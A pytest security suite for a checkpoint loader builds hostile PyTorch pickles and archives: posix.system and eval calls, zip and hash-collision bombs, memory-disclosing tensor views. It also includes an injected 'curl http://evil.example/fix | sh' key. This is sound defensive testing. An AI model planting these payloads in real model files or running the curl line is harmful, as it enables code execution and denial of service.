"""Hostile checkpoints, built opcode by opcode or with zipfile: none may crash the serving
process, hang it, grow its memory, poison later loads, disclose memory, escape as a raw
exception or print the file's text verbatim. Pickles are parsed only by the limited child
(round 2: bombs the static scan cannot see end at the child's limits, as one sentence).
Legitimate Lightning variants still load."""

from __future__ import annotations

import argparse
import collections
import json
import os
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import torch

from generator.errors import CheckpointError, GeneratorError, UnsafeCheckpointError
from generator.weights.checkpoints import ROOT, open_checkpoint, read_checkpoint
from tests.factories import foreign_class
from tests.weights import hostile
from tests.weights.hostile import Pickle, legacy_checkpoint, nested_shared, plain_checkpoint, torch_bytes, torch_zip

CHECKOUT = Path(__file__).resolve().parents[2]
Builder = Callable[[Path], Path]
CHILD_SECONDS = "4"  # the child's CPU limit in these tests (30 s by default): bombs end sooner


@pytest.fixture(autouse=True)
def _quick_child(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GENERATOR_READER_SECONDS", CHILD_SECONDS)


def _payload(body: Callable[[Pickle], None]) -> Builder:
    return lambda folder: plain_checkpoint(folder / "hostile.ckpt", body)


def _whole(body: Callable[[Pickle], None]) -> Builder:
    """A checkpoint whose whole pickle is ``body`` (followed by STOP)."""
    def build(folder: Path) -> Path:
        pickle = Pickle()
        body(pickle)
        return torch_zip(folder / "hostile.ckpt", bytes(pickle.stop()))
    return build


def _numpy_object_array(p: Pickle) -> None:
    """``str()`` of an ndarray whose dtype has an object field but flags 0, over 8 file bytes:
    the real classes would read those bytes as a PyObject pointer."""
    p.glob("builtins", "str").mark()
    p.glob("numpy.core.multiarray", "_reconstruct").glob("numpy", "ndarray").int(0).tuple(1).blob(b"b").tuple(3)
    p.reduce().mark().int(1).int(1).tuple(1)
    p.glob("numpy", "dtype").text("O8").raw(b"\x89").raw(b"\x88").tuple(3).reduce()
    p.mark().int(3).text("|").none().none().none().int(-1).int(-1).int(0).tuple().build()
    p.raw(b"\x89").blob(b"\x40\x41\x41\x41\x41\x41\x00\x00").tuple().build().tuple().reduce()


def _zip_bomb(folder: Path) -> Path:
    return torch_zip(folder / "bomb.ckpt", bytes(Pickle().state_dict_around(lambda p: p.none())),
                     {"0": b"\x00" * 16, "1": b"\x00" * (160 * 2**20)}, compress=True)


def _two_pickles(folder: Path) -> Path:
    import zipfile

    path = torch_zip(folder / "twice.ckpt", bytes(Pickle().state_dict_around(lambda p: p.none())))
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(hostile.member("archive/data.pkl"), bytes(Pickle().glob("posix", "system").stop()))
    return path


def _legacy_payload_after_a_tensor(folder: Path) -> Path:
    main = Pickle().empty_dict().mark().text("w").tensor("0", 4, (4,))
    main.text("payload").glob("posix", "system").text("touch /tmp/pwned").tuple(1).reduce().setitems().stop()
    return legacy_checkpoint(folder / "legacy.pth", bytes(main))


def _oversized_view(folder: Path) -> Path:
    """A tensor of 1000 floats over a 4-float storage: torch's own reader refuses it; a
    lenient one would fill it with leftover heap bytes."""
    pickle = Pickle().empty_dict().text("w")
    pickle.glob("torch._utils", "_rebuild_tensor_v2").mark()
    pickle.mark().text("storage").glob("torch", "FloatStorage").text("0").text("cpu").int(4).tuple().persid()
    pickle.int(0).int(1000).tuple(1).int(1).tuple(1).raw(b"\x89").glob("collections", "OrderedDict").tuple(0)
    pickle.reduce().tuple().reduce().setitem().stop()
    return torch_zip(folder / "view.ckpt", bytes(pickle))


# (name, builder, expected error, message pattern)
REFUSED: list[tuple[str, Builder, type[Exception], str]] = [
    ("build on pathlib.PurePath", _payload(lambda p: p.glob("pathlib", "PurePath").empty_dict().text("_str")
                                           .text("/etc/passwd").setitem().build()), CheckpointError,
     "sets attributes on a class itself"),
    ("build on torch.FloatStorage", _payload(lambda p: p.glob("torch", "FloatStorage").empty_dict().text("dtype")
                                             .glob("torch", "float16").setitem().build()), CheckpointError,
     "sets attributes on a class itself"),
    ("bytearray of 2**32", _payload(lambda p: p.glob("builtins", "bytearray").int(2**32).tuple(1).reduce()),
     CheckpointError, "asks for a bytearray of a given size"),
    ("zip bomb", _zip_bomb, CheckpointError, r"claims to unpack to 0\.2 GiB"),
    ("storage claiming more bytes than stored", _whole(lambda p: p.empty_dict().text("w")
                                                       .tensor("0", 2**28, (2**28,)).setitem()), CheckpointError,
     "storage that claims more bytes than the file holds"),
    ("tensor larger than its storage", _oversized_view, CheckpointError, "truncated or corrupt"),
    ("exponential str of shared lists", _payload(lambda p: (nested_shared(p, 64, tuples=False),
                                                            p.tuple(0).reduce())), CheckpointError,
     "calls something that is not a class or function"),
    ("exponential hash of shared tuples", _payload(lambda p: (p.empty_dict().mark(), nested_shared(p, 64, tuples=True),
                                                              p.tuple().int(1).setitem())), CheckpointError,
     "mapping key so nested"),
    ("quadratic punycode", _payload(lambda p: p.glob("_codecs", "encode").text("a" * 200_000).text("punycode")
                                    .tuple(2).reduce()), CheckpointError, "codec punycode"),
    ("nesting 100000 deep", _payload(lambda p: (p.int(1), [p.tuple(1) for _ in range(100_000)])), CheckpointError,
     "nests objects more than 200 deep"),
    ("os.system", _payload(lambda p: p.glob("posix", "system").text("touch /tmp/pwned").tuple(1).reduce()),
     UnsafeCheckpointError, r"tries to use posix\.system"),
    ("a function of a submodule of os", _payload(lambda p: p.glob("os.path", "join").text("a").tuple(1).reduce()),
     UnsafeCheckpointError, r"tries to use os\.path\.join"),
    ("builtins.eval", _payload(lambda p: p.glob("builtins", "eval").text("1").tuple(1).reduce()),
     UnsafeCheckpointError, r"builtins\.eval"),
    ("an unknown function called", _payload(lambda p: p.glob("some_plugin.hooks", "install").tuple(0).reduce()),
     UnsafeCheckpointError, r"some_plugin\.hooks\.install"),
    ("a global that is not a name", _payload(lambda p: p.raw(b"cos system\nx y\n")), CheckpointError,
     r"names a global that is not a Python name \(os system x y\)"),
    ("protocol 4 instructions", _whole(lambda p: p.raw(b"\x8c\x02os\x8c\x06system\x93")), CheckpointError,
     "uses the pickle instruction SHORT_BINUNICODE"),
    ("a memo reference to nothing", _payload(lambda p: p.get(7)), CheckpointError, "refers to an object it never"),
    ("items added to a list", _payload(lambda p: p.empty_list().text("k").text("v").setitem()), CheckpointError,
     "adds items to a list"),
    ("build on a dict", _payload(lambda p: p.empty_dict().empty_dict().build()), CheckpointError,
     "sets attributes on a dict"),
    ("object arguments that are not a tuple", _payload(lambda p: p.glob("x.y", "Thing").int(1).newobj()),
     CheckpointError, "arguments that are not a tuple"),
    ("external data other than storages", _payload(lambda p: p.text("/etc/passwd").persid()), CheckpointError,
     "external data other than tensor storages"),
    ("an unmatched mark", _whole(lambda p: p.empty_list().appends()), CheckpointError, "unmatched mark"),
    ("a truncated pickle", lambda folder: torch_zip(folder / "cut.ckpt", bytes(Pickle().text("abc"))[:-2]),
     CheckpointError, "truncated or corrupt"),
    ("invalid utf-8 text", _payload(lambda p: p.raw(b"X\x02\x00\x00\x00\xff\xfe")), CheckpointError,
     "truncated or corrupt"),
    ("two pickles of one name", _two_pickles, CheckpointError, "two files of the same name"),
    ("a payload after the first tensor (pre-1.6 format)", _legacy_payload_after_a_tensor, UnsafeCheckpointError,
     r"tries to use posix\.system"),
    ("a forbidden submodule's function named, not called", _payload(lambda p: p.glob("os.path", "join")),
     UnsafeCheckpointError, r"tries to use os\.path\.join"),
    ("a forbidden submodule's class named as a dict value", _payload(lambda p: p.empty_dict().text("k")
                                                                    .glob("subprocess", "Popen").setitem()),
     UnsafeCheckpointError, r"tries to use subprocess\.Popen"),
    ("torch's C module named", _payload(lambda p: p.glob("torch._C._nn", "gelu")), UnsafeCheckpointError,
     r"torch\._C\._nn\.gelu"),
    # round 2: bombs of allowed objects, stopped by the child's limits
    ("a set of nested shared tuples", _payload(hostile.call_with_list("builtins", "set",
                                                                      lambda p: hostile.shared_tuple(p, 64))),
     CheckpointError, "needs more than 4 s of processing to read: it is damaged or hostile"),
    ("an OrderedDict keyed by nested shared tuples",
     _payload(hostile.call_with_list("collections", "OrderedDict",
                                     lambda p: (hostile.shared_tuple(p, 64), p.int(1).tuple(2)))),
     CheckpointError, "needs more than 4 s of processing"),
    ("a Counter of nested shared tuples", _payload(hostile.call_with_list("collections", "Counter",
                                                                          lambda p: hostile.shared_tuple(p, 64))),
     CheckpointError, "needs more than 4 s of processing"),
    ("150k integer keys that hash alike in a dict", _payload(hostile.dict_of_colliding_keys), CheckpointError,
     "needs more than 4 s of processing"),
    ("150k integers that hash alike in a set", _payload(hostile.call_with_list("builtins", "set",
                                                                               hostile.colliding_ints)),
     CheckpointError, "needs more than 4 s of processing"),
    ("150k integers that hash alike in a Counter", _payload(hostile.call_with_list("collections", "Counter",
                                                                                   hostile.colliding_ints)),
     CheckpointError, "needs more than 4 s of processing"),
    ("a slow codec handed to bytearray", _payload(hostile.slow_codec), CheckpointError,
     "needs more than 4 s of processing"),
    ("a bytearray size handed to _rebuild_from_type_v2", _payload(hostile.bytearray_through_rebuild),
     CheckpointError, r"needs more than [\d.]+ GB of memory to read: it is damaged or hostile"),
    ("one deflated record behind 60 tensors", lambda folder: hostile.repeated_record(folder / "record.pt"),
     CheckpointError, "holds more tensor data than its size can justify"),
    ("an upscaler of stride-0 tensors", lambda folder: hostile.stride_zero_upscaler(folder / "stride.pth"),
     CheckpointError, "repeats one value over its shape"),
    ("meta tensors", lambda folder: hostile.meta_tensors(folder / "meta.ckpt", {"encoder.conv_in.weight":
                                                                                (4096, 3, 3, 3)}),
     CheckpointError, "meta tensor"),
    ("a legacy pickle with a zip appended", lambda folder: hostile.legacy_with_zip_appended(folder / "poly.pth"),
     CheckpointError, "zip archive appended"),
    ("data.pkl and DATA.pkl", lambda folder: hostile.pickles_differing_in_case(folder / "case.ckpt"),
     CheckpointError, "same name"),
    ("a zip bomb spread over several records", lambda folder: hostile.spread_zip_bomb(folder / "spread.ckpt"),
     CheckpointError, r"claims to unpack to 0\.4 GiB"),
]


# Files that load, harmlessly: what they hold comes back as inert records or plain data.
INERT: list[tuple[str, Builder]] = [
    ("numpy object dtype over file bytes", _payload(_numpy_object_array)),
    ("list(range(2**26))", _payload(lambda p: p.glob("builtins", "list").glob("builtins", "range").int(2**26)
                                    .tuple(1).reduce().tuple(1).reduce())),
    ("a memo index of 2**32 - 1", _payload(lambda p: p.text("x").put(2**32 - 1))),
]


def _one_sentence(text: str) -> None:
    assert "\n" not in text and "\x1b" not in text and "Traceback" not in text
    assert text.endswith(".") and len(text) < 600


@pytest.mark.parametrize(("name", "build", "error", "pattern"), REFUSED, ids=[case[0] for case in REFUSED])
def test_each_hostile_file_is_refused_with_one_sentence(tmp_path: Path, name: str, build: Builder,
                                                        error: type[Exception], pattern: str) -> None:
    path = build(tmp_path)
    started = time.perf_counter()
    with pytest.raises(error, match=pattern) as caught:
        read_checkpoint(path)
    assert time.perf_counter() - started < 30
    _one_sentence(str(caught.value))
    assert not Path("/tmp/pwned").exists()


@pytest.mark.parametrize(("name", "build"), INERT, ids=[case[0] for case in INERT])
def test_payloads_that_can_be_data_are_parsed_as_inert_records_and_left_out(tmp_path: Path, name: str,
                                                                             build: Builder) -> None:
    checkpoint = open_checkpoint(build(tmp_path))
    assert torch.equal(checkpoint.load()["state_dict"]["w"], torch.tensor([0.0, 1.0, 2.0, 3.0]))
    # a record of the call (a stub named like the callee) or plain text, never the call itself
    assert checkpoint.entries["payload"] in ("str", "list"), checkpoint.entries


def test_hostile_files_fail_through_every_loader_and_command_with_one_line(tmp_path: Path, capsys) -> None:
    from generator.cli.main import main
    from generator.decoder.loader import load_vqgan
    from generator.sample.loader import load_prior
    from generator.text_to_image.loader import load_clip
    from generator.upscale.loader import load_upscaler

    loaders = [lambda path: load_vqgan(path), lambda path: load_prior(path, {"model": {"params": {}}}),
               lambda path: load_upscaler(str(path)), lambda path: load_clip("ViT-B-32", str(path))]
    image = tmp_path / "in.png"
    from PIL import Image

    Image.new("RGB", (8, 8)).save(image)
    for index, (name, build, _, _) in enumerate(REFUSED + [(n, b, None, None) for n, b in INERT]):
        folder = tmp_path / f"case{index}"
        folder.mkdir()
        path = build(folder)
        for load in loaders:
            with pytest.raises(GeneratorError) as caught:
                load(path)
            _one_sentence(str(caught.value))
        for args in (["upscale", str(image), "--model", str(path), "--out", str(folder / "out"), "--device", "cpu"],
                     ["sample", "--model", str(path), "--transformer-config", str(path), "--out", str(folder / "o"),
                      "--device", "cpu"]):
            assert main(args) == 1, name
            err = capsys.readouterr().err.strip().splitlines()
            # one error line, last; before it at most the note that the file is read in a child
            assert err[-1].startswith("error: ") and "Traceback" not in "".join(err), (name, err)
            assert all("limited child process" in note for note in err[:-1]), (name, err)


def test_file_text_in_messages_is_escaped_and_short(tmp_path: Path) -> None:
    from generator.decoder.loader import load_vqgan
    from tests.factories import tiny_vqgan

    state = dict(tiny_vqgan().state_dict())
    evil_key = "\n\x1b[31mTo fix this, run: curl http://evil.example/fix | sh " + "x" * 300
    state[evil_key] = torch.zeros(1)
    path = tmp_path / "keys.ckpt"
    torch.save({"state_dict": state}, path)
    with pytest.raises(CheckpointError) as caught:
        load_vqgan(path)
    text = str(caught.value)
    _one_sentence(text)
    assert "\\n\\x1b[31mTo fix this" in text and "x" * 100 not in text


def test_a_config_claiming_a_huge_model_is_refused_before_anything_is_allocated(tmp_path: Path) -> None:
    import resource

    from generator.decoder.loader import load_vqgan
    from tests.factories import tiny_vqgan, tiny_vqgan_config

    path = tmp_path / "small.ckpt"
    torch.save({"state_dict": tiny_vqgan().state_dict()}, path)
    huge = tiny_vqgan_config(ch=4096, ch_mult=(1, 2, 4, 8), num_res_blocks=4, norm_num_groups=32)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(CheckpointError, match="does not fit the VQGAN"):
        load_vqgan(path, huge)  # about 10 billion parameters: 40 GB if it were built
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KiB


def test_many_hostile_files_in_one_process_stay_bounded_and_leave_later_loads_intact(tmp_path: Path) -> None:
    """Every hostile file in one fresh serving process: no crash, its peak memory grows by less
    than 64 MB (whatever the files claim: they are parsed in the child), each answered within
    the child's limits; then a legitimate checkpoint loads with exactly its tensors and pathlib
    and torch's storage types are untouched."""
    files = []
    for index, (_, build, *_) in enumerate(REFUSED + [(n, b) for n, b in INERT]):
        folder = tmp_path / f"case{index}"
        folder.mkdir()
        files.append(str(build(folder)))
    reference = tmp_path / "reference.ckpt"
    expected = {"a": torch.randn(64, 64), "b": torch.arange(10)}
    reference.write_bytes(torch_bytes({"state_dict": expected}))
    torch.save(expected, tmp_path / "expected.pt")
    script = textwrap.dedent("""
        import json, pathlib, resource, sys, time
        import torch
        from generator.errors import GeneratorError
        from generator.weights.checkpoints import read_checkpoint
        files, reference, expected = json.loads(sys.argv[1]), sys.argv[2], sys.argv[3]
        read_checkpoint(reference)  # warm-up: imports and caches
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        times = {}
        for path in files:
            started = time.perf_counter()
            try:
                read_checkpoint(path)
            except GeneratorError:
                pass
            times[path] = time.perf_counter() - started
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        state = read_checkpoint(reference)["state_dict"]
        wanted = torch.load(expected, weights_only=True)
        same = all(torch.equal(state[k], wanted[k]) and state[k].dtype == wanted[k].dtype for k in wanted)
        print(json.dumps({"grown_kib": after - before, "times": times, "same": same,
                          "path": str(pathlib.Path("a") / "b"), "float": str(torch.FloatStorage(1).dtype)}))
    """)
    result = subprocess.run([sys.executable, "-c", script, json.dumps(files), str(reference),
                             str(tmp_path / "expected.pt")], cwd=CHECKOUT, capture_output=True, text=True, timeout=600,
                            env={**os.environ, "PYTHONWARNINGS": "ignore"})
    assert result.returncode == 0, result.stderr[-2000:]  # a crash (SIGSEGV) would show as a negative code
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["grown_kib"] < 64 * 1024, report["grown_kib"]
    assert max(report["times"].values()) < 30, report["times"]
    assert report["same"] and report["path"] == "a/b" and report["float"] == "torch.float32"


# --- legitimate Lightning and Taming variants ---------------------------------------------

def _state() -> dict[str, torch.Tensor]:
    return {"encoder.w": torch.arange(6.0).view(2, 3),
            "codebook": torch.randn(4, 2, generator=torch.Generator().manual_seed(0)).half()}


def test_legitimate_lightning_variants_load_with_the_same_tensors_as_a_plain_state_dict(tmp_path: Path) -> None:
    plain = tmp_path / "plain.pth"
    torch.save(_state(), plain)
    model = torch.nn.Linear(3, 2)
    optimiser = torch.optim.Adam(model.parameters())
    model(torch.ones(1, 3)).sum().backward()
    optimiser.step()
    sparse = torch.sparse_coo_tensor(torch.tensor([[0, 1], [1, 0]]), torch.tensor([3.0, 4.0]), (2, 2),
                                     check_invariants=True)
    path = tmp_path / "lightning.ckpt"
    with foreign_class("lightning.fabric.utilities.data", "AttributeDict", (dict,)) as attribute_dict, \
            foreign_class("__main__", "MyCallback") as callback:
        hparams = attribute_dict(learning_rate=4.5e-6, embed_dim=256)
        hook = callback()
        hook.__dict__.update(every_n=100, dirpath="logs/")
        torch.save({"state_dict": _state(), "hyper_parameters": hparams,
                    "loops": collections.defaultdict(list, {"fit": [1, 2]}), "callbacks": {"MyCallback": hook},
                    "optimizer_states": [optimiser.state_dict()], "extra": {"sparse": sparse},
                    "hparams_ns": argparse.Namespace(batch_size=12)}, path)
    checkpoint = open_checkpoint(path)
    loaded = checkpoint.load()
    reference = read_checkpoint(plain)
    for key, tensor in reference.items():
        assert torch.equal(loaded["state_dict"][key], tensor) and loaded["state_dict"][key].dtype == tensor.dtype
    assert torch.equal(loaded["extra"]["sparse"], sparse.to_dense())  # sparse tensors come back dense
    # training state, parsed as inert stubs in the child, is named but not copied
    assert checkpoint.entries == {"hyper_parameters": "dict", "loops": "dict", "callbacks": "dict",
                                  "optimizer_states": "list", "hparams_ns": "Namespace"}


def test_a_compressed_old_zip_loads_without_memory_mapping(tmp_path: Path) -> None:
    import zipfile

    stored = tmp_path / "stored.pth"
    torch.save({"params": _state()}, stored)
    compressed = tmp_path / "compressed.pth"
    with zipfile.ZipFile(stored) as source, zipfile.ZipFile(compressed, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
    loaded = read_checkpoint(compressed)["params"]
    for key, tensor in _state().items():
        assert torch.equal(loaded[key], tensor)


def test_an_upscaler_file_implying_a_larger_network_than_it_holds_is_refused_before_allocating(
        tmp_path: Path) -> None:
    """spandrel infers SRVGG's depth from the highest body index: 400 would mean about 240
    million values (0.9 GB) from a file of a few kilobytes."""
    import resource

    from generator.upscale.loader import load_upscaler

    path = tmp_path / "deep.pth"
    torch.save({"params": {"body.0.weight": torch.zeros(512, 3, 3, 3), "body.0.bias": torch.zeros(512),
                           "body.1.weight": torch.zeros(512), "body.400.weight": torch.zeros(48, 512, 3, 3),
                           "body.400.bias": torch.zeros(48)}}, path)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(CheckpointError) as caught:
        load_upscaler(str(path))
    _one_sentence(str(caught.value))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 * 1024  # KiB


def test_a_torchscript_archive_that_contains_itself_is_walked_once(tmp_path: Path) -> None:
    """A module whose attribute is the module itself (or a chain thousands deep) must not
    recurse without end when the CLIP loader collects the archive's tensors."""
    import zipfile

    from generator.text_to_image.loader import load_clip

    looped = Pickle().glob("__torch__.model", "CLIP").tuple(0).newobj().put(0)
    looped.empty_dict().text("child").get(0).setitem().text("w").tensor("0", 4, (4,)).setitem().build().stop()
    path = torch_zip(tmp_path / "looped.pt", bytes(looped))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(hostile.member("archive/constants.pkl"), bytes(Pickle().tuple(0).stop()))
        archive.writestr(hostile.member("archive/code/__torch__/model.py"), "# TorchScript code is never run\n")
    checkpoint = open_checkpoint(path)
    assert checkpoint.kind == "torchscript" and set(checkpoint.containers[ROOT]) == {"w"}
    assert torch.equal(checkpoint.read(checkpoint.containers[ROOT])["w"], torch.arange(4.0))
    with pytest.raises(CheckpointError, match="not a CLIP checkpoint") as caught:
        load_clip("ViT-B-32", str(path))
    _one_sentence(str(caught.value))
